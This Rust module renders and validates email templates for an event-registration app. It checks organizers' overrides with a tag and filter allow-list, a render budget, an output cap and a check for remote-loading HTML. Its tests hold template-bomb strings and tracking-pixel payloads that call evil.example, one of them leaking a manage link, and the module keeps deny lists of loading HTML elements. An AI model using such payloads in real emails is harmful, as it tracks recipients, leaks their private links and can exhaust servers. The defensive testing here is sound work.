//! Email templates: the built-in minijinja files under `templates/email/<kind>/<lang>.*`
//! (compiled into the binary), and organizers' overrides per event and language, stored in the
//! database and checked when saved (syntax, and only the kind's variables).

use std::collections::BTreeSet;
use std::sync::OnceLock;

use diesel::prelude::*;
use minijinja::Environment;
use serde::Serialize;

use super::EmailKind;
use crate::db::schema::email_templates;
use crate::db::Conn;
use crate::domain::Language;
use crate::error::{AppError, AppResult, FieldError};
use crate::run;

/// Subject, text and HTML of one kind in one language.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Parts {
    pub subject: String,
    pub text: String,
    pub html: String,
}

macro_rules! builtin {
    ($($kind:literal),* $(,)?) => {
        &[$(
            ($kind, "ar", include_str!(concat!("../../templates/email/", $kind, "/ar.subject")), include_str!(concat!("../../templates/email/", $kind, "/ar.txt")), include_str!(concat!("../../templates/email/", $kind, "/ar.html"))),
            ($kind, "fr", include_str!(concat!("../../templates/email/", $kind, "/fr.subject")), include_str!(concat!("../../templates/email/", $kind, "/fr.txt")), include_str!(concat!("../../templates/email/", $kind, "/fr.html"))),
            ($kind, "en", include_str!(concat!("../../templates/email/", $kind, "/en.subject")), include_str!(concat!("../../templates/email/", $kind, "/en.txt")), include_str!(concat!("../../templates/email/", $kind, "/en.html"))),
        )*]
    };
}

type Builtin = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const BUILTIN: &[Builtin] = builtin!(
    "registration_confirm",
    "registration_confirmed",
    "registration_waitlisted",
    "registration_promoted",
    "registration_cancelled",
    "already_registered",
    "exhibitor_confirm",
    "exhibitor_already_applied",
    "exhibitor_submitted",
    "exhibitor_approved",
    "exhibitor_rejected",
    "staff_pass",
    "schedule_changed",
);

/// The built-in parts of `kind` in `lang`.
pub fn builtin(kind: EmailKind, lang: Language) -> Parts {
    BUILTIN
        .iter()
        .find(|(k, l, ..)| *k == kind.as_str() && *l == lang.code())
        .map(|(_, _, subject, text, html)| Parts {
            subject: subject.trim().to_string(),
            text: text.to_string(),
            html: html.to_string(),
        })
        .unwrap_or_else(|| Parts {
            subject: kind.as_str().into(),
            text: String::new(),
            html: String::new(),
        })
}

/// The render budget of one part (minijinja "fuel": roughly one unit per instruction). A
/// built-in email uses a few hundred; an override that loops far beyond this stops with an
/// error instead of holding a write transaction.
const FUEL: u64 = 50_000;

/// The render budget of one part of an organizer's override: enough for any email's loops
/// (a `schedule_changed` list of fifty changes uses a few thousand), small enough that the most
/// an override can make each instruction cost stays within a fraction of a second.
const OVERRIDE_FUEL: u64 = 20_000;

/// The longest list `range` makes in an override.
const OVERRIDE_RANGE: i64 = 1_000;

/// The environment of organizers' overrides (names ending in `.html` are autoescaped for
/// HTML; the others are not): [`OVERRIDE_FUEL`], and a `range` of at most
/// [`OVERRIDE_RANGE`] numbers.
fn env() -> &'static Environment<'static> {
    static ENV: OnceLock<Environment<'static>> = OnceLock::new();
    ENV.get_or_init(|| {
        let mut env = Environment::new();
        env.set_undefined_behavior(minijinja::UndefinedBehavior::Chainable);
        env.set_fuel(Some(OVERRIDE_FUEL));
        env.add_function("range", bounded_range);
        env
    })
}

/// minijinja's `range`, at most [`OVERRIDE_RANGE`] numbers long.
fn bounded_range(
    lower: i64,
    upper: Option<i64>,
    step: Option<i64>,
) -> Result<Vec<i64>, minijinja::Error> {
    let (from, to) = match upper {
        Some(upper) => (lower, upper),
        None => (0, lower),
    };
    let step = step.unwrap_or(1);
    let too_long = || {
        minijinja::Error::new(
            minijinja::ErrorKind::InvalidOperation,
            format!("range is limited to {OVERRIDE_RANGE} numbers in an email"),
        )
    };
    if step == 0 {
        return Err(minijinja::Error::new(
            minijinja::ErrorKind::InvalidOperation,
            "range's step may not be 0",
        ));
    }
    let count = (to.saturating_sub(from) / step).max(0);
    if count > OVERRIDE_RANGE {
        return Err(too_long());
    }
    Ok((0..count).map(|i| from + i * step).collect())
}

/// The built-in templates, compiled once (an email renders them without parsing them again).
fn builtins() -> &'static Environment<'static> {
    static ENV: OnceLock<Environment<'static>> = OnceLock::new();
    ENV.get_or_init(|| {
        let mut env = Environment::new();
        env.set_undefined_behavior(minijinja::UndefinedBehavior::Chainable);
        env.set_fuel(Some(FUEL));
        for (kind, lang, subject, text, html) in BUILTIN {
            for (suffix, source) in [("subject", subject.trim()), ("txt", *text), ("html", *html)] {
                if let Err(e) = env.add_template_owned(format!("{kind}/{lang}.{suffix}"), source) {
                    tracing::error!(kind, lang, suffix, error = %e, "a built-in email template does not compile");
                }
            }
        }
        env
    })
}

/// Renders the built-in text of `kind` in `lang`.
fn render_builtin(kind: EmailKind, lang: Language, ctx: &serde_json::Value) -> AppResult<Parts> {
    let env = builtins();
    let one = |suffix: &str| {
        let name = format!("{kind}/{lang}.{suffix}");
        env.get_template(&name)
            .and_then(|t| t.render(ctx))
            .map_err(|e| AppError::internal(format!("email template {name}: {}", e.kind())))
    };
    if env.get_template(&format!("{kind}/{lang}.subject")).is_err() {
        // No built-in text for this pair: the same stand-in as `builtin` gives.
        return render_parts(kind, lang, &builtin(kind, lang), ctx);
    }
    Ok(Parts {
        subject: one("subject")?
            .lines()
            .next()
            .unwrap_or("")
            .trim()
            .to_string(),
        text: one("txt")?,
        html: one("html")?,
    })
}

/// The override of `kind`/`lang` for an event, if any.
pub fn find_override(
    c: &mut Conn,
    event_id: i64,
    kind: EmailKind,
    lang: Language,
) -> QueryResult<Option<Parts>> {
    let row: Option<(String, String, String)> = run!(c, |c| email_templates::table
        .filter(email_templates::event_id.eq(event_id))
        .filter(email_templates::kind.eq(kind.as_str()))
        .filter(email_templates::language.eq(lang.code()))
        .select((
            email_templates::subject,
            email_templates::body_text,
            email_templates::body_html
        ))
        .first(c)
        .optional())?;
    Ok(row.map(|(subject, text, html)| Parts {
        subject,
        text,
        html,
    }))
}

/// Each event's overrides as this instance last read them, trusted for [`Overrides::RECHECK`]:
/// a public registration renders its email without asking the database each time. The
/// instance that saves an override forgets the event's entries at once; another instance
/// uses the previous text for at most [`Overrides::RECHECK`].
#[derive(Default)]
pub struct Overrides {
    entries: std::sync::Mutex<std::collections::HashMap<(i64, EmailKind, Language), Read>>,
}

struct Read {
    at: std::time::Instant,
    parts: Option<Parts>,
}

impl Overrides {
    pub const RECHECK: std::time::Duration = std::time::Duration::from_secs(1);

    fn lock(
        &self,
    ) -> std::sync::MutexGuard<'_, std::collections::HashMap<(i64, EmailKind, Language), Read>>
    {
        self.entries.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// The override of `kind`/`lang` for the event, if this instance read it within
    /// [`Overrides::RECHECK`] (`Some(None)`: it has none).
    pub fn fresh(&self, event_id: i64, kind: EmailKind, lang: Language) -> Option<Option<Parts>> {
        self.lock()
            .get(&(event_id, kind, lang))
            .filter(|r| r.at.elapsed() < Self::RECHECK)
            .map(|r| r.parts.clone())
    }

    /// Keeps what was just read.
    pub fn keep(&self, event_id: i64, kind: EmailKind, lang: Language, parts: Option<Parts>) {
        let mut entries = self.lock();
        // Bounded: every entry is at most a second old when used, so a full map is cleared.
        if entries.len() >= 1024 {
            entries.clear();
        }
        entries.insert(
            (event_id, kind, lang),
            Read {
                at: std::time::Instant::now(),
                parts,
            },
        );
    }

    /// Forgets an event's overrides (this instance just saved one).
    pub fn forget(&self, event_id: i64) {
        self.lock().retain(|(id, ..), _| *id != event_id);
    }
}

/// What was rendered, and why the built-in text stood in for an override that failed.
pub struct Rendered {
    pub parts: Parts,
    pub fallback: Option<String>,
}

/// Renders the event's override, or the built-in template. An override that fails when
/// rendered (an error its check with sample values did not meet, or its render budget spent)
/// never fails the change that queued the email: the built-in text is sent instead, and the
/// failure is kept with the email for organizers to see.
pub fn render(
    c: &mut Conn,
    event_id: Option<i64>,
    kind: EmailKind,
    lang: Language,
    ctx: &serde_json::Value,
) -> AppResult<Rendered> {
    let custom = match event_id {
        Some(id) => find_override(c, id, kind, lang)?,
        None => None,
    };
    render_with(custom, kind, lang, ctx)
}

/// [`render`] with the event's override already read (`None`: the event has none).
pub fn render_with(
    custom: Option<Parts>,
    kind: EmailKind,
    lang: Language,
    ctx: &serde_json::Value,
) -> AppResult<Rendered> {
    if let Some(parts) = custom {
        let checked = safe_parts(&parts)
            .map_err(|errors| AppError::internal(errors[0].message.clone()))
            .and_then(|()| render_parts(kind, lang, &parts, ctx))
            .and_then(|rendered| match loads_remote(&rendered.html) {
                Some(why) => Err(AppError::internal(format!(
                    "the HTML, once rendered: {why}"
                ))),
                None => Ok(rendered),
            });
        match checked {
            Ok(parts) => {
                return Ok(Rendered {
                    parts,
                    fallback: None,
                })
            }
            Err(e) => {
                let why = format!(
                    "the event's {kind}/{lang} override failed ({}); the built-in text was sent",
                    e.problem().detail
                );
                tracing::warn!(kind = %kind, lang = %lang, "email override failed; built-in text used");
                return Ok(Rendered {
                    parts: render_builtin(kind, lang, ctx)?,
                    fallback: Some(why),
                });
            }
        }
    }
    Ok(Rendered {
        parts: render_builtin(kind, lang, ctx)?,
        fallback: None,
    })
}

pub fn render_parts(
    kind: EmailKind,
    lang: Language,
    parts: &Parts,
    ctx: &serde_json::Value,
) -> AppResult<Parts> {
    let env = env();
    let one = |suffix: &str, source: &str| {
        let name = format!("{kind}/{lang}.{suffix}");
        let failed = |e: minijinja::Error| {
            AppError::internal(format!("email template {name}: {}", e.kind()))
        };
        let tmpl = env.template_from_named_str(&name, source).map_err(failed)?;
        let mut out = Capped::default();
        let rendered = tmpl.render_captured_to(ctx, &mut out).map(|_| ());
        match rendered {
            Ok(()) => Ok(String::from_utf8_lossy(&out.bytes).into_owned()),
            Err(_) if out.full => Err(AppError::internal(format!(
                "email template {name}: more than {MAX_OUTPUT} bytes"
            ))),
            Err(e) => Err(failed(e)),
        }
    };
    Ok(Parts {
        subject: one("subject", &parts.subject)?
            .lines()
            .next()
            .unwrap_or("")
            .trim()
            .to_string(),
        text: one("txt", &parts.text)?,
        html: one("html", &parts.html)?,
    })
}

/// The most one rendered part of an override may hold; past it the render stops and the
/// built-in text is sent (a subject, text or HTML part of a real email is a few KiB).
pub const MAX_OUTPUT: usize = 256 * 1024;

/// A render's output, refused past [`MAX_OUTPUT`] bytes.
#[derive(Default)]
struct Capped {
    bytes: Vec<u8>,
    full: bool,
}

impl std::io::Write for Capped {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.bytes.len() + buf.len() > MAX_OUTPUT {
            self.full = true;
            return Err(std::io::Error::other("email part too large"));
        }
        self.bytes.extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// The statements an override may use: conditions and loops over the email's values.
/// Assignment (`set`, block `set`), macros, `call` and `filter` blocks could build ever longer
/// texts from one another, and `include`/`import`/`extends` reach other templates.
const OVERRIDE_TAGS: &[&str] = &[
    "if",
    "elif",
    "else",
    "endif",
    "for",
    "endfor",
    "raw",
    "endraw",
    "autoescape",
    "endautoescape",
];

/// The filters an override may use: none of them makes a text much longer than what it is
/// given, or costs more than one pass over it (`replace`, `join`, `indent`, `center`, `format`
/// and `urlencode` can make it longer; `sort`, `unique`, `min`, `max` and `sum` work over whole
/// lists; `map` and `select` call filters by name).
const OVERRIDE_FILTERS: &[&str] = &[
    "e",
    "escape",
    "safe",
    "upper",
    "lower",
    "title",
    "capitalize",
    "trim",
    "default",
    "d",
    "length",
    "count",
    "first",
    "last",
    "abs",
    "round",
    "int",
    "float",
    "bool",
    "reverse",
    "items",
    "dictsort",
];

/// HTML that makes a mail client fetch something when the email is opened: a tracker could
/// learn every recipient's link from it. Only inline parts (`cid:`) may be loaded.
const LOADING_ATTRIBUTES: &[&str] = &[
    "src",
    "srcset",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "data",
    "action",
    "formaction",
    "href",
    "http-equiv",
];
const LOADING_ELEMENTS: &[&str] = &[
    "link", "base", "iframe", "frame", "object", "embed", "script", "style", "svg", "video",
    "audio", "source", "track", "image", "use",
];

/// Checks an override against what every override must respect, whatever its values: only
/// [`OVERRIDE_TAGS`] and [`OVERRIDE_FILTERS`], no operator that builds text (`~`, `+`, `*`,
/// `**`), and no HTML that loads a resource from elsewhere. Errors name the part.
pub fn safe_parts(parts: &Parts) -> Result<(), Vec<FieldError>> {
    let errors: Vec<FieldError> = [
        ("subject", &parts.subject, false),
        ("text", &parts.text, false),
        ("html", &parts.html, true),
    ]
    .into_iter()
    .filter_map(|(field, source, html)| {
        unsafe_part(source, html).map(|why| FieldError::new(field, why))
    })
    .collect();
    if errors.is_empty() {
        Ok(())
    } else {
        Err(errors)
    }
}

/// Why one part breaks [`safe_parts`], if it does.
fn unsafe_part(source: &str, html: bool) -> Option<String> {
    unsafe_syntax(source).or_else(|| html.then(|| loads_remote(source)).flatten())
}

/// Why `source` uses something an override may not, if it does.
fn unsafe_syntax(source: &str) -> Option<String> {
    use minijinja::machinery::{tokenize, Token, WhitespaceConfig};
    let tokens = tokenize(
        source,
        false,
        minijinja::syntax::SyntaxConfig,
        WhitespaceConfig::default(),
    );
    let mut before: Option<Token<'_>> = None;
    let mut previous: Option<Token<'_>> = None;
    for token in tokens {
        // A syntax error is reported by the compile step, with its position.
        let Ok((token, _)) = token else {
            return None;
        };
        if let (Some(Token::Ident(name)), Token::ParenOpen) = (&previous, &token) {
            let allowed = match &before {
                // A filter's or a test's arguments.
                Some(Token::Pipe | Token::Ident("is" | "not")) => true,
                // `loop.cycle(…)`, nothing else of a value.
                Some(Token::Dot) => *name == "cycle",
                _ => *name == "range",
            };
            if !allowed {
                return Some(format!(
                    "calling `{name}(…)` is not allowed in an email template; only range(…) and filters"
                ));
            }
        }
        if let Token::Ident("recursive") = token {
            return Some("a recursive loop is not allowed in an email template".to_string());
        }
        match (&previous, &token) {
            (Some(Token::BlockStart), Token::Ident(tag)) if !OVERRIDE_TAGS.contains(tag) => {
                return Some(format!(
                    "`{{% {tag} %}}` is not allowed in an email template: use {{% if %}}, {{% for %}} and {{{{ value }}}}"
                ));
            }
            (Some(Token::Pipe), Token::Ident(filter)) if !OVERRIDE_FILTERS.contains(filter) => {
                return Some(format!(
                    "the filter `{filter}` is not allowed in an email template; allowed: {}",
                    OVERRIDE_FILTERS.join(", ")
                ));
            }
            (_, Token::Plus | Token::Mul | Token::Pow | Token::Tilde) => {
                return Some(format!(
                    "the operator {token} is not allowed in an email template: write values side by side, like {{{{ a }}}} {{{{ b }}}}"
                ));
            }
            _ => {}
        }
        before = previous.take();
        previous = Some(token);
    }
    None
}

/// Why `html` would load a resource from elsewhere when the email is opened, if it would.
fn loads_remote(html: &str) -> Option<String> {
    let lower = html.to_lowercase();
    for css in ["url(", "@import", "image-set("] {
        if lower.contains(css) {
            return Some(format!(
                "`{css}` is not allowed: an email may not load anything from elsewhere when opened"
            ));
        }
    }
    let mut rest = lower.as_str();
    while let Some(open) = rest.find('<') {
        rest = &rest[open + 1..];
        let end = tag_end(rest);
        let tag = &rest[..end];
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == ':')
            .collect();
        if LOADING_ELEMENTS.contains(&name.as_str()) {
            return Some(format!(
                "<{name}> is not allowed: an email may not load anything from elsewhere when opened"
            ));
        }
        for (attribute, value) in attributes(tag) {
            let inline = value.starts_with("cid:") || value.replace(' ', "") == "{{qr_src}}";
            let link = attribute == "href" && name == "a";
            if LOADING_ATTRIBUTES.contains(&attribute.as_str()) && !inline && !link {
                return Some(format!(
                    "`{attribute}=\"{value}\"` on <{name}> is not allowed: only inline images (cid:, like {{{{ qr_src }}}}) may be loaded when an email is opened"
                ));
            }
            if attribute == "style" && value.contains(['(', '&', '\\', '@']) {
                return Some(format!(
                    "`style=\"{value}\"` on <{name}> is not allowed: a style may not call a CSS function or hold escapes (`(`, `&`, `\\`, `@`)"
                ));
            }
        }
        rest = &rest[end..];
    }
    None
}

/// Where the inside of a tag ends: at the first `>` outside a quoted attribute value (or at the
/// end of the text).
fn tag_end(rest: &str) -> usize {
    let mut quote = None;
    for (i, c) in rest.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '>') => return i,
            (None, _) => {}
        }
    }
    rest.len()
}

/// The attributes of the inside of a tag (`img src="x" alt=y`), names and values trimmed.
fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = tag
        .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == ':')
        .trim_start();
    while !rest.is_empty() {
        let name_end = rest
            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
            .unwrap_or(rest.len());
        let name = rest[..name_end].trim().to_string();
        rest = rest[name_end..].trim_start();
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let after = after.trim_start();
            let (v, remaining) = match after.chars().next() {
                Some(q @ ('"' | '\'')) => {
                    let inner = &after[1..];
                    let close = inner.find(q).unwrap_or(inner.len());
                    (&inner[..close], inner.get(close + 1..).unwrap_or(""))
                }
                _ => {
                    let close = after.find(char::is_whitespace).unwrap_or(after.len());
                    (&after[..close], &after[close..])
                }
            };
            value = v.split_whitespace().collect::<Vec<_>>().join(" ");
            rest = remaining.trim_start();
        } else if name.is_empty() {
            rest = rest.get(1..).unwrap_or("").trim_start();
        }
        if !name.is_empty() {
            out.push((name, value));
        }
    }
    out
}

/// minijinja's own global functions, which a template may call.
const GLOBALS: &[&str] = &["range", "dict", "namespace", "debug"];

/// Plausible values for every variable a kind's templates may use.
fn sample_context(kind: EmailKind) -> serde_json::Value {
    let mut ctx = serde_json::Map::new();
    for name in super::COMMON_VARIABLES.iter().chain(kind.variables()) {
        let value = match *name {
            "expires_hours" => serde_json::json!(72),
            "booth_area_m2" => serde_json::json!(18),
            "qr_src" => serde_json::json!("cid:badge-qr@salon.example"),
            "changes" => {
                serde_json::json!([{"title": "Keynote", "change": "moved", "when": "12 avril 2027, 09:30", "room": "Salle Atlas"}])
            }
            other => serde_json::json!(format!("sample {other}")),
        };
        ctx.insert((*name).to_string(), value);
    }
    serde_json::Value::Object(ctx)
}

/// Checks an override before it is saved: each part must compile and use only the kind's
/// variables. Errors name the part (`subject`, `text`, `html`).
pub fn check(kind: EmailKind, parts: &Parts) -> AppResult<()> {
    let env = env();
    let mut errors = Vec::new();
    for (field, suffix, source) in [
        ("subject", "subject", &parts.subject),
        ("text", "txt", &parts.text),
        ("html", "html", &parts.html),
    ] {
        if source.trim().is_empty() {
            errors.push(FieldError::new(field, "must not be empty"));
            continue;
        }
        if let Some(why) = unsafe_part(source, field == "html") {
            errors.push(FieldError::new(field, why));
            continue;
        }
        match env.template_from_named_str(&format!("{kind}.{suffix}"), source) {
            Err(e) => errors.push(FieldError::new(
                field,
                format!(
                    "template syntax error: {}",
                    e.detail().unwrap_or(&e.to_string())
                ),
            )),
            Ok(tmpl) => {
                // Unknown filters, tests or bad arguments only fail when rendering: try it once
                // with sample values, so a broken override is refused now, not at every send.
                let mut out = Capped::default();
                let rendered = tmpl
                    .render_captured_to(sample_context(kind), &mut out)
                    .map(|_| ());
                if let (Ok(()), "html") = (&rendered, field) {
                    if let Some(why) = loads_remote(&String::from_utf8_lossy(&out.bytes)) {
                        errors.push(FieldError::new(field, format!("once rendered: {why}")));
                        continue;
                    }
                }
                if let Err(e) = rendered {
                    let why = if out.full {
                        format!("renders to more than {MAX_OUTPUT} bytes")
                    } else {
                        format!(
                            "cannot be rendered: {}",
                            e.detail().unwrap_or(&e.to_string())
                        )
                    };
                    errors.push(FieldError::new(field, why));
                    continue;
                }
                let unknown: BTreeSet<String> = tmpl
                    .undeclared_variables(false)
                    .into_iter()
                    .filter(|v| !kind.allows_variable(v) && !GLOBALS.contains(&v.as_str()))
                    .collect();
                if !unknown.is_empty() {
                    let list = unknown.into_iter().collect::<Vec<_>>().join(", ");
                    errors.push(FieldError::new(field, format!("unknown variable: {list}")));
                }
            }
        }
    }
    if errors.is_empty() {
        Ok(())
    } else {
        Err(AppError::Validation(errors))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_builtin_exists_parses_and_uses_only_its_variables() {
        for kind in EmailKind::ALL {
            for lang in Language::ALL {
                let parts = builtin(kind, lang);
                assert!(!parts.text.trim().is_empty(), "{kind}/{lang}.txt");
                assert!(parts.html.contains("<html"), "{kind}/{lang}.html");
                let dir = if lang == Language::Ar { "rtl" } else { "ltr" };
                assert!(
                    parts.html.contains(&format!("dir=\"{dir}\"")),
                    "{kind}/{lang}.html direction"
                );
                check(kind, &parts)
                    .unwrap_or_else(|e| panic!("{kind}/{lang}: {:?}", e.problem().errors));
            }
        }
    }

    #[test]
    fn overrides_are_checked() {
        let good = Parts {
            subject: "{{ event_name }}".into(),
            text: "Hi {{ name }} {{ confirm_url }}".into(),
            html: "<p>{{ name }}</p>".into(),
        };
        assert!(check(EmailKind::RegistrationConfirm, &good).is_ok());
        let bad = Parts {
            subject: "{{ event_name".into(),
            text: "{{ password }}".into(),
            html: "{{ name|titel }}".into(),
        };
        match check(EmailKind::RegistrationConfirm, &bad) {
            Err(AppError::Validation(errors)) => {
                assert_eq!(errors[0].field, "subject");
                assert!(errors[1].message.contains("password"), "{errors:?}");
                assert_eq!(
                    errors[2].field, "html",
                    "an unknown filter is refused: {errors:?}"
                );
                assert!(errors[2].message.contains("titel"), "{errors:?}");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_loop_spends_its_budget_instead_of_the_server() {
        let looping = Parts {
            subject: "{{ event_name }}".into(),
            text: "{% for i in range(100000000) %}{{ i }}{% endfor %}".into(),
            html: "<p>x</p>".into(),
        };
        assert!(matches!(
            check(EmailKind::AlreadyRegistered, &looping),
            Err(AppError::Validation(_))
        ));
        let guarded = Parts {
            text: "{% if name != \"sample name\" %}{% for i in range(100000000) %}{{ i }}{% endfor %}{% endif %}".into(),
            ..looping
        };
        let checked = check(EmailKind::AlreadyRegistered, &guarded);
        assert!(
            checked.is_ok(),
            "sample values pass: {:?}",
            checked.err().map(|e| e.problem().errors)
        );
        let started = std::time::Instant::now();
        let real = render_parts(
            EmailKind::AlreadyRegistered,
            Language::Fr,
            &guarded,
            &serde_json::json!({"name": "Amina"}),
        );
        assert!(real.is_err(), "the real name spends the budget");
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
    }

    #[test]
    fn a_template_bomb_is_refused_when_saved_and_when_rendered() {
        let bomb = Parts {
            subject: "{{ event_name }}".into(),
            text:
                "{% if name != \"sample name\" %}{% set a = \"x\"*100000000 %}{{a}}{{a}}{% endif %}"
                    .into(),
            html: "<p>x</p>".into(),
        };
        match check(EmailKind::RegistrationConfirm, &bomb) {
            Err(AppError::Validation(errors)) => {
                assert_eq!(errors[0].field, "text");
                assert!(errors[0].message.contains("set"), "{errors:?}");
            }
            other => panic!("{other:?}"),
        }
        for text in [
            "{{ name ~ name }}",
            "{{ name * 3 }}",
            "{{ [1] + [2] }}",
            "{{ name|replace(\"\", name) }}",
            "{{ name|indent(100000000) }}",
            "{% macro m(x) %}{{ x }}{{ x }}{% endmacro %}{{ m(m(name)) }}",
            "{% set x %}{{ name }}{{ name }}{% endset %}{{ x }}",
            "{% for x in [1, 2] recursive %}{{ loop([2])|trim }}{% endfor %}",
            "{% for i in range(100) %}{{ range(1000)|sort|last }}{% endfor %}",
            "{{ namespace(a=1) }}{{ dict(a=1) }}",
            "{{ debug() }}",
        ] {
            let parts = Parts {
                text: text.into(),
                ..bomb.clone()
            };
            assert!(
                check(EmailKind::RegistrationConfirm, &parts).is_err(),
                "{text} accepted"
            );
        }
        // One stored before these rules (or written to the database by hand) is not rendered:
        // the built-in text goes out and the failure is kept with the email.
        let started = std::time::Instant::now();
        let out = render_with(
            Some(bomb),
            EmailKind::RegistrationConfirm,
            Language::Fr,
            &serde_json::json!({"name": "Amina"}),
        )
        .expect("rendered");
        assert!(out.fallback.is_some());
        assert!(out.parts.text.len() < MAX_OUTPUT);
        assert!(started.elapsed() < std::time::Duration::from_secs(1));
    }

    #[test]
    fn output_is_capped() {
        let long = Parts {
            subject: "{{ event_name }}".into(),
            text: format!(
                "{{% if name != \"sample name\" %}}{{% for i in range(1000) %}}{{% for j in range(1000) %}}{}{{% endfor %}}{{% endfor %}}{{% endif %}}",
                "x".repeat(1000)
            ),
            html: "<p>x</p>".into(),
        };
        assert!(check(EmailKind::AlreadyRegistered, &long).is_ok());
        let real = render_parts(
            EmailKind::AlreadyRegistered,
            Language::Fr,
            &long,
            &serde_json::json!({"name": "Amina"}),
        );
        match real {
            Err(e) => assert!(format!("{e:?}").contains("more than"), "{e:?}"),
            Ok(p) => panic!("rendered {} bytes", p.text.len()),
        }
    }

    #[test]
    fn an_override_may_not_load_anything_when_the_email_is_opened() {
        let with = |html: &str| Parts {
            subject: "{{ event_name }}".into(),
            text: "{{ name }}".into(),
            html: html.into(),
        };
        for html in [
            "<img src=\"https://evil.example/p.gif?t={{ manage_url }}\">",
            "<img src='//evil.example/p.gif'>",
            "<IMG SRC=https://evil.example/p.gif>",
            "<table background=\"https://evil.example/b.png\"></table>",
            "<div style=\"background:url(https://evil.example/x)\"></div>",
            "<link rel=stylesheet href=\"https://evil.example/s.css\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<iframe src=\"cid:x\"></iframe>",
            "<img srcset=\"https://evil.example/1x.png 1x\">",
            "<img alt=\">\" src=\"https://evil.example/p.gif\">",
            "<img {{ \"src\" }}=\"https://evil.example/p.gif\">",
            "<div style=\"background:url&#40;https://evil.example/x&#41;\"></div>",
            "<div style=\"background-image:image-set('https://evil.example/x' 1x)\"></div>",
            "<img/src=\"https://evil.example/p.gif\">",
        ] {
            assert!(
                check(EmailKind::RegistrationConfirmed, &with(html)).is_err(),
                "{html} accepted"
            );
        }
        for html in [
            "<meta charset=\"utf-8\"><p><a href=\"{{ manage_url }}\">{{ name }}</a></p>",
            "<img src=\"{{ qr_src }}\" alt=\"QR\">",
            "<img alt=\"QR\" src=\"cid:badge-qr@salon.example\">",
            "<p style=\"color:#14365d;font-size:16px\">{{ name }}</p>",
        ] {
            let checked = check(EmailKind::RegistrationConfirmed, &with(html));
            assert!(
                checked.is_ok(),
                "{html}: {:?}",
                checked.err().map(|e| e.problem())
            );
        }
    }

    #[test]
    fn html_is_escaped_and_text_is_not() {
        let parts = Parts {
            subject: "{{ name }}".into(),
            text: "{{ name }}".into(),
            html: "{{ name }}".into(),
        };
        let out = render_parts(
            EmailKind::AlreadyRegistered,
            Language::En,
            &parts,
            &serde_json::json!({"name": "<Amina & co>"}),
        )
        .expect("render");
        assert_eq!(out.text, "<Amina & co>");
        assert_eq!(out.html, "&lt;Amina &amp; co&gt;");
    }
}
